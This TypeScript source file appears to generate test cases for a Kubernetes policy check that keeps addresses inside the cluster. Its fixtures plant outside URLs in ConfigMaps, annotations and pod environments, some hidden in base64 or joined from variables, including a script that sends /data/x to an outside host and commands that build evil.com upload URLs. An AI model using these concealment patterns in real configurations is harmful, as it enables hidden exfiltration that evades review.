import type { Way } from "../attack";
import type { Random } from "../random";
import { added } from "./making/change";
import { outsideHostPort, outsideUrl, publicIPv4 } from "./making/hosts";
import { newName } from "./making/names";
import { base64, nested, written } from "./making/nesting";
import { anywhere } from "./making/places";
import { containerOf, podWay } from "./making/pod-way";
import { way } from "./making/way";

const configMap = (random: Random, home: string, fields: object) => ({
  apiVersion: "v1",
  kind: "ConfigMap",
  metadata: { name: newName(random), namespace: home },
  ...fields,
});

const addressOf = (random: Random): { key: string; value: string } =>
  random.pick([
    () => ({
      key: random.pick(["url", "target", "callback", "mirror"]),
      value: outsideUrl(random),
    }),
    () => ({ key: random.pick(["endpoint", "host", "server"]), value: outsideHostPort(random) }),
    () => ({ key: random.pick(["address", "peer", "upstream"]), value: publicIPv4(random) }),
  ])();

/** Objects of every kind that hold text, with an address in the open. */
const OPEN: readonly ((random: Random, home: string) => object)[] = [
  (random, home) => {
    const { key, value } = addressOf(random);
    return configMap(random, home, { data: { note: "hello", [key]: value } });
  },
  (random, home) => ({
    ...configMap(random, home, { data: {} }),
    metadata: {
      name: newName(random),
      namespace: home,
      annotations: { [`example.org/${random.word()}-url`]: outsideUrl(random) },
    },
  }),
  (random, home) => {
    const { key, value } = addressOf(random);
    return {
      apiVersion: `${random.word()}.example.org/v1alpha1`,
      kind: "Widget",
      metadata: { name: newName(random), namespace: home },
      spec: { parts: random.shuffle([{ size: 3 }, { [key]: value }]) },
    };
  },
  (random, home) => ({
    apiVersion: "mlops.seldon.io/v1alpha1",
    kind: "Model",
    metadata: { name: newName(random), namespace: home, annotations: {} },
    spec: {
      storageUri: "s3://models/x/1",
      parameters: [{ name: "callback", value: outsideUrl(random) }],
    },
  }),
  (random, home) => ({
    apiVersion: "v1",
    kind: "Service",
    metadata: {
      name: newName(random),
      namespace: home,
      annotations: { "example.org/upstream": outsideUrl(random) },
    },
    spec: { selector: { app: "web" }, ports: [{ port: 80 }] },
  }),
];

/** The same, wrapped in encodings. */
const HIDDEN: readonly ((random: Random, home: string) => object)[] = [
  (random, home) => {
    const { key, value } = addressOf(random);
    return configMap(random, home, {
      data: { "config.yaml": nested(random, { settings: { [key]: value } }) },
    });
  },
  (random, home) =>
    configMap(random, home, {
      data: { blob: base64(`upload to ${outsideUrl(random)} at night, please`) },
    }),
  (random, home) =>
    configMap(random, home, {
      data: { blob: base64(written(random, { endpoint: outsideUrl(random), retries: 3 })) },
    }),
  (random, home) =>
    configMap(random, home, {
      binaryData: { blob: base64(`server=${outsideUrl(random)}\nmode=fast\n`) },
    }),
  (random, home) =>
    configMap(random, home, {
      data: { "run.sh": `#!/bin/sh\nset -eu\n/app/send --to ${outsideUrl(random)} < /data/x\n` },
    }),
  (random, home) =>
    configMap(random, home, { data: { "app.ini": `[push]\nurl = ${outsideUrl(random)}\n` } }),
  (random, home) =>
    configMap(random, home, {
      data: {
        config: JSON.stringify({ inner: base64(JSON.stringify({ u: outsideUrl(random) })) }),
      },
    }),
];

/** Ways 60 and 61 in what is no pod, and addresses put together from parts. */
export const TEXTS: readonly Way[] = [
  way(60, "strings-stay-inside", "an address outside in any text of any kind", (random, stack) => {
    const object = random.pick(OPEN)(random, anywhere(random, stack));
    return { what: JSON.stringify(object), change: added(random, stack, object) };
  }),
  way(61, "strings-stay-inside", "an address outside within encodings", (random, stack) => {
    const object = random.pick(HIDDEN)(random, anywhere(random, stack));
    return { what: JSON.stringify(object), change: added(random, stack, object) };
  }),
  podWay(61, "strings-stay-inside", "an address outside put together from variables", [
    containerOf("a scheme and a host", (random) => ({
      env: [
        { name: "SCHEME", value: "https" },
        { name: "WHERE", value: random.pick(["evil.com", "files.example.org", "8.8.8.8"]) },
        { name: "TARGET", value: "$(SCHEME)://$(WHERE)/upload" },
      ],
    })),
    containerOf("a host and a port in an argument", (random) => ({
      env: [
        { name: "PART_A", value: "https://files" },
        { name: "PART_B", value: random.pick([".example.org", ".evil.com"]) },
      ],
      args: ["--to=$(PART_A)$(PART_B)/x"],
    })),
    containerOf("a script that joins them", (random) => ({
      env: [
        { name: "A", value: "https:" },
        { name: "B", value: random.pick(["//evil.com", "//files.example.org"]) },
      ],
      command: ["sh", "-c", random.pick(['send "$A$B/x"', "send ${A}${B}/x"])],
    })),
    containerOf("a document in a variable", (random) => ({
      env: [{ name: "SETTINGS", value: nested(random, { sink: { url: outsideUrl(random) } }) }],
    })),
    containerOf("base64 in a variable", (random) => ({
      env: [{ name: "SETTINGS", value: base64(`sink=${outsideUrl(random)} and more`) }],
    })),
  ]),
];
